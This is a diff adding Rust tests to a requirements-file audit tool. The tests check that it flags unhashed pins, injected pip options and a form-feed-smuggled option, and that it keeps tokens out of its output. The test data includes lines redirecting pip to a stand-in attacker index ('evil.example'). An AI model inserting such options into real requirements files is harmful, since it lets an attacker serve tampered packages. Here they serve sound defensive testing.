@@ -261,3 +261,96 @@ fn credentials_from_the_environment_never_reach_the_report() {
         assert!(!ran.stdout.contains("ghp_SECRET") && !ran.stderr.contains("ghp_SECRET"), "{format}:\n{}", ran.stdout);
     }
 }
+
+/// Stripping every `--hash` is the simplest tampering: each requirement is an error.
+#[test]
+fn a_file_with_no_hashes_at_all_fails() {
+    let ws = Workspace::new(tree());
+    let pins: String = support::LockFile::parse(&ws.text).pins().iter().map(|(n, v)| format!("{n}=={v}\n")).collect();
+    let (code, found) = audit_all_formats(&ws, &pins, &["--fail-on", "error"]);
+    assert_eq!(code, 1, "{found:#?}");
+    for (line, name) in pins.lines().enumerate() {
+        let name = name.split("==").next().unwrap();
+        assert_found(&found, "unhashed-requirement", name, &at(line + 1));
+    }
+}
+
+/// The attack of issue 8, item 4: options prepended to a hashed file make pip build the sdist
+/// with whatever another index serves. Each is a finding at its line; `--no-binary` and
+/// `--only-binary` change what the target installs.
+#[test]
+fn options_that_change_what_pip_fetches_or_builds_are_findings() {
+    let ws = Workspace::new(tree().with([support::Release::new("plain", "1.0").sdist_only()]));
+    let evil = "--no-binary lib\n--extra-index-url http://evil.example/simple\n";
+    let text = format!("{evil}{}", ws.text);
+    let (code, found) = audit_all_formats(&ws, &text, &["--fail-on", "error"]);
+    assert_eq!(code, 1, "{found:#?}");
+    assert_found(&found, "file-option", "", &at(1));
+    assert_found(&found, "file-option", "", &at(2));
+    assert_found(&found, "sdist-only", "lib", &at(line_of(&text, "lib==1.0")));
+    let json = ws.audit(&text, &["--format", "json"]).json();
+    let severity = |line: usize| {
+        let finding = json["findings"].as_array().unwrap().iter().find(|f| f["location"] == at(line).as_str());
+        finding.map(|f| f["severity"].as_str().unwrap().to_string())
+    };
+    assert_eq!((severity(1).as_deref(), severity(2).as_deref()), (Some("warning"), Some("error")));
+
+    // Options hashlock generate refuses are findings here, so that the audit reports everything;
+    // build options of one requirement too.
+    let plain = ws.server.registry().sha256s("plain", "1.0").into_iter().next().unwrap();
+    let text = format!(
+        "--only-binary :all:\n--pre\n--trusted-host 127.0.0.1\n--find-links ./wheels\n--no-index\n{}plain==1.0 --hash=sha256:{plain}\n",
+        ws.text.replace("tool==1.0 \\\n", "tool==1.0 --config-settings k=v --global-option=x \\\n")
+    );
+    let (code, found) = audit_all_formats(&ws, &text, &[]);
+    assert_eq!(code, 1, "{found:#?}");
+    for line in 1..=5 {
+        assert_found(&found, "file-option", "", &at(line));
+    }
+    assert_eq!(found.iter().filter(|(c, p, _)| c == "file-option" && p == "tool").count(), 2, "{found:#?}");
+    assert_found(&found, "no-file-for-target", "plain", &at(line_of(&text, "plain==1.0")));
+}
+
+/// pip splits lines as Python's `str.splitlines` does: a form feed inside a requirement line
+/// starts an option line, which audit must see as pip does.
+#[test]
+fn an_option_after_a_form_feed_is_a_finding() {
+    let ws = Workspace::new(tree());
+    let text = ws.text.replace(
+        "tool==1.0 \\\n",
+        "tool==1.0 ; python_version > '3' \x0c--extra-index-url http://evil.example/simple \\\n",
+    );
+    assert_ne!(text, ws.text);
+    let ran = ws.audit(&text, &["--format", "json"]);
+    assert_eq!(ran.code, 1, "{}", ran.stdout);
+    let findings = ran.json()["findings"].clone();
+    let option = findings.as_array().unwrap().iter().find(|f| f["code"] == "file-option");
+    let message = option.unwrap_or_else(|| panic!("no file-option in {findings}"))["message"].as_str().unwrap();
+    assert!(message.contains("--extra-index-url http://evil.example/simple"), "{message}");
+}
+
+/// Tokens in `${VAR}` never reach a message: not in an error quoting the line, not in a finding.
+#[test]
+fn expanded_variables_never_reach_errors_or_findings() {
+    let ws = Workspace::new(tree());
+    let run = |text: &str, format: &str| {
+        std::fs::write(ws.dir.path().join("requirements.txt"), text).unwrap();
+        let mut command = hashlock_at("audit", &ws.server.index_url(), &["requirements.txt", "--format", format]);
+        command.env("HL_TEST_TOKEN", "abcdef0123456789").env("HL_GL_TOKEN", "glpat-SECRET").current_dir(ws.dir.path());
+        Ran::of(&mut command, &[ws.dir.path()])
+    };
+    let remote = format!("{}-r https://ci:${{HL_GL_TOKEN}}@127.0.0.1:9/req.txt\n", ws.text);
+    let not_hex = "tool==1.0 --hash=sha256:${HL_GL_TOKEN}\n";
+    for text in [remote.as_str(), not_hex] {
+        let ran = run(text, "text");
+        assert_eq!(ran.code, 2, "{}", ran.stderr);
+        assert!(ran.stderr.contains("requirements.txt:") && !ran.stderr.contains("SECRET"), "{}", ran.stderr);
+    }
+    let hex = ws.text.replace("tool==1.0 \\\n", "tool==1.0 --hash=sha256:${HL_TEST_TOKEN} \\\n");
+    for format in ["text", "json", "markdown"] {
+        let ran = run(&hex, format);
+        assert_eq!(ran.code, 1, "{format}: a hash-mismatch\n{}", ran.stdout);
+        assert!(ran.stdout.contains("hash-mismatch") && ran.stdout.contains("${HL_TEST_TOKEN}"), "{}", ran.stdout);
+        assert!(!ran.stdout.contains("abcdef0123456789") && !ran.stderr.contains("abcdef0123456789"), "{}", ran.stdout);
+    }
+}
